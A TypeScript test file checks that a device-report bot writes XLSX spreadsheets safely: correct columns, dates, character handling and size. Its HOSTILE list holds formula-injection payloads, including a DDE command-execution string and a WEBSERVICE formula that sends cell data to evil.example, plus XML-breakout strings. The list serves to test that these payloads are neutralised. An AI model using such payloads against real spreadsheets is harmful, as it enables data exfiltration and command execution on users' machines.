import assert from 'node:assert/strict';
import { inflateRawSync } from 'node:zlib';
import { z } from 'zod/v4';
import { defineAction, graph, personOnly, type Action } from '../../../src/actions/action.ts';
import { reportStaleDevices } from '../../../src/actions/reports/report-stale-devices.ts';
import { estimatedBytes, reportFile } from '../../../src/bot/report-file.ts';
import { failsWith } from './support.ts';

/** The files in a ZIP archive, by its central directory (APPNOTE 4.3.12): sizes in local headers may be missing. */
function unzip(archive: Buffer): ReadonlyMap<string, string> {
  const files = new Map<string, string>();
  const end = archive.lastIndexOf(Buffer.from('PK\u0005\u0006', 'latin1'));
  let at = archive.readUInt32LE(end + 16);
  for (let left = archive.readUInt16LE(end + 10); left > 0; left -= 1) {
    const [method, size, nameLength, extraLength, commentLength, header] = [archive.readUInt16LE(at + 10), archive.readUInt32LE(at + 20), archive.readUInt16LE(at + 28), archive.readUInt16LE(at + 30), archive.readUInt16LE(at + 32), archive.readUInt32LE(at + 42)];
    const name = archive.toString('utf8', at + 46, at + 46 + nameLength);
    const begin = header + 30 + archive.readUInt16LE(header + 26) + archive.readUInt16LE(header + 28);
    const bytes = archive.subarray(begin, begin + size);
    files.set(name, (method === 0 ? bytes : inflateRawSync(bytes)).toString('utf8'));
    at += 46 + nameLength + extraLength + commentLength;
  }
  return files;
}

const decode = (text: string): string => text.replace(/&lt;/g, '<').replace(/&gt;/g, '>').replace(/&quot;/g, '"').replace(/&apos;|&#39;/g, "'").replace(/&amp;/g, '&');

interface Read {
  /** Cells by row, each its type and value; shared strings are looked up. */
  readonly rows: readonly (readonly { readonly type: string; readonly value: string }[])[];
  readonly xml: string;
}

async function read(action: Action, result: Readonly<Record<string, unknown>>): Promise<Read> {
  const files = unzip(Buffer.from(await reportFile(action, result)));
  const sheet = files.get('xl/worksheets/sheet1.xml') ?? assert.fail([...files.keys()].join());
  const shared = [...(files.get('xl/sharedStrings.xml') ?? '').matchAll(/<si>(.*?)<\/si>/gs)].map(([, item = '']) => decode(item.replace(/<[^>]*>/g, '')));
  const rows = [...sheet.matchAll(/<row [^>]*>(.*?)<\/row>/gs)].map(([, row = '']) =>
    [...row.matchAll(/<c ([^>]*?)(?:\/>|>(.*?)<\/c>)/gs)].map(([, attributes = '', inner = '']) => {
      const type = /\bt="(\w+)"/.exec(attributes)?.[1] ?? '';
      const raw = /<v>(.*?)<\/v>/s.exec(inner)?.[1] ?? decode(inner.replace(/<[^>]*>/g, ''));
      return { type, value: type === 's' ? (shared[Number(raw)] ?? '') : raw };
    }),
  );
  return { rows, xml: [...files.values()].join('\n') };
}

const device = (changes: Readonly<Record<string, unknown>> = {}) => ({ device: 'LT-1', last_sync: new Date('2026-03-01T22:30:00Z'), user: 'Anna Weber', platform: 'windows', compliance: 'noncompliant', owner: 'company', model: 'Latitude', os_version: '10.0', serial_number: '007', ...changes });
const stale = (...rows: readonly object[]) => ({ devices: rows.length, complete: true, by_platform: [], rows });

/** What a spreadsheet could take for a formula, a command or a link. */
const HOSTILE = ['=1+1', '=HYPERLINK("https://evil.example","x")', "=cmd|' /C calc'!A0", '+1', '-1', '@SUM(A1)', '\t=1+1', '\r=1+1', '=WEBSERVICE("https://evil.example/?"&A1)', '</v></c><f>1+1</f>', ']]><f>1</f>', '&#61;1+1', "'=1"];

describe('a report as a file', () => {
  for (const text of HOSTILE) {
    it(`holds ${JSON.stringify(text)} as text and never as a formula`, async () => {
      const { rows, xml } = await read(reportStaleDevices, stale(device({ device: text, user: text, model: text })));
      const cells = rows[1] ?? [];
      for (const column of [0, 2, 6]) {
        assert.equal(cells[column]?.type, 's');
        assert.equal(cells[column]?.value.trim(), text.replace(/\p{Cc}/gu, ' ').trim());
      }
      assert.doesNotMatch(xml, /<f[ >/]/, 'a formula element stands in the file');
      assert.doesNotMatch(xml, /<hyperlink|externalLink|TargetMode="External"/i);
    });
  }

  it('names every column, keeps numbers that are text as text, and dates as dates', async () => {
    const { rows } = await read(reportStaleDevices, stale(device()));
    assert.deepEqual(rows[0]?.map(({ value }) => value), ['Device', 'Last seen', 'User', 'Platform', 'Compliant', 'Owned by', 'Model', 'Version', 'Serial number']);
    const cells = rows[1] ?? [];
    assert.deepEqual(cells[8], { type: 's', value: '007' });
    assert.equal(cells[1]?.type, '', 'a date is a number with a format');
    // Days since 30 December 1899: 1 March 2026 is 46,082. Half past ten at night is still that day.
    assert.equal(Math.floor(Number(cells[1]?.value)), 46_082);
    assert.deepEqual([cells[3]?.value, cells[4]?.value], ['Windows', 'no']);
  });

  it('keeps a column that no row fills, so that cells stand below their heads', async () => {
    const { rows } = await read(reportStaleDevices, stale(device({ user: undefined, last_sync: undefined })));
    assert.equal(rows[0]?.length, 9);
    assert.ok(rows[1]?.some(({ value }) => value === 'LT-1') && rows[1].some(({ value }) => value === '007'));
  });

  it('is XML whatever a name holds', async () => {
    const { rows, xml } = await read(reportStaleDevices, stale(device({ device: 'a\u0000b\u0008c\ud800d\u202ee\ufffff', user: 'é漢😀' })));
    assert.equal(rows[1]?.[0]?.value, 'a b c de f');
    assert.equal(rows[1]?.[2]?.value, 'é漢😀');
    assert.doesNotMatch(xml, /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/);
  });

  it('says when it is not complete, and says nothing of it when it is', async () => {
    assert.match((await read(reportStaleDevices, { ...stale(device()), complete: false })).xml, /not complete/);
    assert.doesNotMatch((await read(reportStaleDevices, stale(device()))).xml, /not complete/);
  });

  it('cuts a text that no cell takes, and not within a character', async () => {
    const { rows } = await read(reportStaleDevices, stale(device({ device: `${'x'.repeat(31_999)}😀${'y'.repeat(5_000)}` })));
    assert.equal(rows[1]?.[0]?.value, 'x'.repeat(31_999));
  });

  it('holds 2,000 rows, of about the size that is announced', async () => {
    const file = await reportFile(reportStaleDevices, stale(...Array.from({ length: 2_000 }, (_, index) => device({ device: `LT-${index * 7919}`, serial_number: String(index * 104_729), user: `Person ${index}` }))));
    assert.ok(file.byteLength > estimatedBytes(2_000) / 4 && file.byteLength < estimatedBytes(2_000) * 2, String(file.byteLength));
  });

  it('is made of reports alone, and of plain values alone', async () => {
    const define = (changes: object): Action =>
      defineAction({ name: 'report_things', version: '1.0.0', description: 'x', effect: 'read', operation: graph('GET', '/x', 'X'), parameters: z.strictObject({}), result: z.object({ rows: personOnly(z.array(z.object({ a: z.unknown() }))) }), run: async () => ({ rows: [] }), ...changes });
    await assert.rejects(reportFile(define({}), { rows: [] }), failsWith('CATALOGUE_INVALID'));
    await assert.rejects(reportFile(define({ report: { rows: 'rows' } }), { rows: [{ a: { b: 1 } }] }), failsWith('CATALOGUE_INVALID'));
  });
});
